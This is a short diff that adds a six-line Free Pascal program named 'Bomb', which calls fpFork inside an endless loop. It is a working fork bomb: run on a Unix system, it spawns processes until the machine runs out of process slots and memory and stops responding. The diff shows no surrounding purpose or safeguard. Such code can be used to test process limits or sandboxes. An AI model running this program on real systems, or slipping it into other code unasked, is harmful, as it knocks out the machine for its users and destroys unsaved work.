@@ -1,0 +1,6 @@
+program Bomb;
+uses BaseUnix;
+begin
+  while true do
+    fpFork;
+end.
